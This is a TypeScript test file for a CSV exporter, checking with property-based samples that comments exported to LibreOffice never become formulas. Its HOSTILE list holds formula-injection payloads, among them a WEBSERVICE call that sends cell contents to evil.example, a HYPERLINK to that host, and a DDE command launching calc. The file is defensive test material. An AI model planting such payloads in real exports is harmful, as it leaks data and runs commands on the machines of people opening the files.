import * as fc from "fast-check";
import { expect, it } from "vitest";
import { openInSpreadsheet } from "../../../../infra/local/testbed/spreadsheet.ts";
import { parseCsv } from "../test/parse-csv.ts";
import { RATING } from "../test/world.ts";
import { CSV } from "./formats.ts";

/** What has hurt somebody: formulas, also behind blanks and on later lines, and what a careless writer breaks. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example";"Click")',
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=WEBSERVICE("http://evil.example/?"&A1)',
  "+1+1",
  "-1+1",
  "@SUM(A1:A2)",
  "\t=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "nice\n=1+1",
  'nice",=1+1',
  "nice;=1+1",
  "nice\t=1+1",
  '";=1+1;"',
  "'=1+1",
  "''=1+1",
  "＝1+1",
  "{=1+1}",
  "say “=1+1”, it's all",
  "👩‍👩‍👧‍👧",
];

/** No digits: what looks like a number or a date, a spreadsheet takes for one, which is its right. */
const LETTERS = [
  "=",
  "+",
  "-",
  "@",
  "|",
  "\t",
  "\n",
  " ",
  "\u00a0",
  "\u200b",
  ",",
  ";",
  '"',
  "'",
  "(",
  ")",
  "!",
  "A",
  "é",
];
const RANDOM = fc.sample(fc.string({ unit: fc.constantFrom(...LETTERS), minLength: 1, maxLength: 12 }), {
  numRuns: 300,
  seed: 4711,
});

const COMMENTS = [...HOSTILE, ...RANDOM];
const COLUMN = 4;

const exported =
  CSV.head +
  COMMENTS.map((comment, place) =>
    CSV.line(
      {
        id: String(place),
        acceptedAt: new Date("2026-11-23T08:00:00Z"),
        answer: "1",
        negative: true,
        comment,
        reason: comment,
        locale: "de",
        channel: comment,
        page: comment,
        tags: [comment, comment],
        period: 0,
        caseId: null,
        caseState: null,
      },
      RATING.kind,
    ),
  ).join("");

it.each([
  ["commas", "44"],
  ["commas, semicolons and tabs, as its dialogue suggests", "44/59/9"],
])("LibreOffice finds no formula in an export, and every word where it was: by %s", async (_, separators) => {
  const { formulas, csv } = await openInSpreadsheet(exported, separators);
  expect(formulas).toEqual([]);
  const rows = parseCsv(csv, "\n");
  expect(rows).toHaveLength(COMMENTS.length + 1);
  const shown = (text: string) => text.replaceAll(/^'/g, "");
  for (const [place, comment] of COMMENTS.entries()) {
    const row = rows[place + 1] ?? [];
    expect(row).toHaveLength(13);
    for (const column of [COLUMN, COLUMN + 1, COLUMN + 3, COLUMN + 4]) {
      expect([place, column, shown(row[column] ?? "")]).toEqual([place, column, shown(comment)]);
    }
  }
});

it("LibreOffice would find them, were they written as they are", async () => {
  const { formulas } = await openInSpreadsheet("=1+1,nice\r\n", "44");
  expect(formulas).toEqual(["of:=1+1"]);
});
